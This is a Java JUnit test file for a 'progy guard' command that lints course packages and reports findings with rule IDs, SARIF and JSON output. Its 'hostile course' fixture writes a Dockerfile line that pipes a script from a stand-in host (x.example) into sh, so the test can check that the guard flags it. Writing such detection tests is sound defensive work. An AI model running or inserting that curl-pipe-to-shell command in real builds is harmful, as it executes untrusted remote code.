package dev.progy.cli;

import com.fasterxml.jackson.databind.JsonNode;
import dev.progy.testkit.Folders;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.sun.net.httpserver.HttpServer;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** {@code progy guard} as a publisher and a CI job use it. */
class GuardCommandTest {

    @TempDir
    Path tmp;

    private Path hostileCourse() throws IOException {
        Path c = Files.createDirectories(tmp.resolve("hostile"));
        Files.writeString(c.resolve("course.json"), """
                {"id": "hostile", "name": "Hostile", "runners": [{"id": "box", "type": "docker-file", "command": "sh"}]}
                """);
        Files.writeString(c.resolve("Dockerfile"), "FROM alpine\nRUN curl -s https://x.example/i.sh | sh\n");
        Path ex = Files.createDirectories(c.resolve("content/01_m/01_e"));
        Files.writeString(ex.resolve("README.md"), "# E\n");
        Files.writeString(ex.resolve("exercise.sh"), "exit 0\n");
        return c;
    }

    @Test
    @DisplayName("a sample course passes with exit 0")
    void samplePasses() {
        CliHarness.Result r = new CliHarness(tmp).run("guard", CliHarness.example("java-basics").toString(), "--no-color");
        assertThat(r.code()).as(r.toString()).isZero();
        assertThat(r.out()).contains("✓ passes: 0 errors");
    }

    @Test
    @DisplayName("a hostile course fails with exit 1, each finding with its rule, file and line, and a fix")
    void hostileFails() throws IOException {
        hostileCourse();
        CliHarness.Result r = new CliHarness(tmp).run("guard", "hostile", "--no-color");
        assertThat(r.code()).isEqualTo(ExitCode.FAILED);
        assertThat(r.out()).contains("error Dockerfile:2 [PG-D005]", "warning Dockerfile:1 [PG-D001]", "fix: ",
                "✗ does not pass: 1 error,");
    }

    @Test
    @DisplayName("--sarif and --json print what programs read; --rules lists every rule")
    void machineOutput() throws IOException {
        hostileCourse();
        CliHarness cli = new CliHarness(tmp);
        JsonNode sarif = CliJson.parse(cli.run("guard", "hostile", "--sarif").out());
        assertThat(sarif.path("version").asText()).isEqualTo("2.1.0");
        assertThat(sarif.at("/runs/0/results").findValuesAsText("ruleId")).contains("PG-D005", "PG-D001", "PG-D003");
        JsonNode json = CliJson.parse(cli.run("guard", "hostile", "--json").out());
        assertThat(json.path("passed").asBoolean()).isFalse();
        assertThat(json.at("/counts/error").asInt()).isEqualTo(1);
        assertThat(cli.run("guard", "--rules", "--no-color").out()).contains("PG-D001", "PG-C001", "PG-N001", "hadolint");
    }

    @Test
    @DisplayName("--run runs every starter and solution: a solution that fails its tests fails the course")
    void runSolutions() throws IOException {
        Path c = tmp.resolve("course");
        Folders.copy(CliHarness.example("python-original"), c);
        Files.writeString(c.resolve("content/01_basics/01_hello/solution.py"), "def greet(name):\n    return ''\n");
        CliHarness cli = new CliHarness(tmp);

        assertThat(cli.run("guard", "course", "--no-color").code()).as("static checks only").isZero();
        CliHarness.Result r = cli.run("guard", "course", "--run", "--no-color");

        assertThat(r.code()).as(r.toString()).isEqualTo(ExitCode.FAILED);
        assertThat(r.out()).contains("error content/01_basics/01_hello/solution.py [PG-V002] 01_basics/01_hello's "
                + "solution fails: test 'greets the world'", "✗ does not pass: 1 error,");
    }

    @Test
    @DisplayName("--run lists each exercise's starter and solution verdict, not only the total; --json has them too")
    void runListsEachExercise() throws IOException {
        Path c = tmp.resolve("course");
        Folders.copy(CliHarness.example("python-original"), c);
        Files.writeString(c.resolve("content/01_basics/01_hello/solution.py"), "def greet(name):\n    return ''\n");
        CliHarness cli = new CliHarness(tmp);

        CliHarness.Result r = cli.run("guard", "course", "--run", "--no-color");

        assertThat(r.out()).containsPattern("✗ 01_basics/01_hello +starter fails · solution fails: test 'greets the world'");
        assertThat(r.out().lines().filter(l -> l.matches("  [✓✗] \\S+ +starter .*"))).hasSizeGreaterThan(1);
        assertThat(r.out()).containsPattern("✓ \\S+ +starter (fails|could not be run or checked) · solution passes");
        JsonNode json = CliJson.parse(cli.run("guard", "course", "--run", "--json").out());
        JsonNode hello = json.path("runs").get(0);
        assertThat(hello.path("exercise").asText()).isEqualTo("01_basics/01_hello");
        assertThat(hello.at("/starter/passed").asBoolean()).isFalse();
        assertThat(hello.at("/solution/passed").asBoolean()).isFalse();
        assertThat(hello.path("asExpected").asBoolean()).isFalse();
        assertThat(json.path("runs").size()).isEqualTo(r.out().lines().filter(l -> l.matches("  [✓✗] \\S+ +starter .*")).count());
    }

    @Test
    @DisplayName("--rules --json prints every rule as JSON, as --help says --json does")
    void rulesAsJson() {
        CliHarness.Result r = new CliHarness(tmp).run("guard", "--rules", "--json");
        assertThat(r.code()).isZero();
        JsonNode rules = CliJson.parse(r.out());
        assertThat(rules.isArray()).isTrue();
        assertThat(rules.findValuesAsText("id")).contains("PG-D001", "PG-V002");
        assertThat(rules.get(0).path("severity").asText()).isIn("error", "warning", "info");
        assertThat(rules.get(0).path("rationale").asText()).isNotBlank();
    }

    @Test
    @DisplayName("--check-external requests the Markdown's web links: a page that is gone fails the course")
    void checkExternal() throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            exchange.sendResponseHeaders(exchange.getRequestURI().getPath().equals("/gone") ? 410 : 200, -1);
            exchange.close();
        });
        server.start();
        try {
            Path c = tmp.resolve("course");
            Folders.copy(CliHarness.example("python-original"), c);
            String base = "http://127.0.0.1:" + server.getAddress().getPort();
            Files.writeString(c.resolve("README.md"), "# Course\n\nRead [the docs](" + base + "/docs) and [the old page]("
                    + base + "/gone).\n");
            CliHarness.Result r = new CliHarness(tmp).run("guard", "course", "--check-external", "--no-color");

            assertThat(r.code()).as(r.toString()).isEqualTo(ExitCode.FAILED);
            assertThat(r.out()).contains("error README.md:3 [PG-M004]", base + "/gone").doesNotContain(base + "/docs");
        } finally {
            server.stop(0);
        }
    }

}
